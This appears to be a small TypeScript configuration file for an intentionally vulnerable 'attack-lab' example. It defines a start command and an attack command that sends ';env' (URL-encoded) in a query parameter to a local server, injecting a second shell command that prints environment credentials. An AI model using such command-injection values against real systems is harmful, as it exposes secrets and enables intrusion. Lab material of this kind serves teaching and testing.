/** Starts both examples with the console; the attack lab is the second, so its HTTP front takes the second port. */
export const START_COMMAND = 'npm start';

/** `examples/attack-lab`, case 1: the prefix goes into a shell command, and `;env` would print the credentials. */
export const ATTACK_COMMAND = "curl -s 'http://127.0.0.1:3001/files?prefix=%3Benv'";
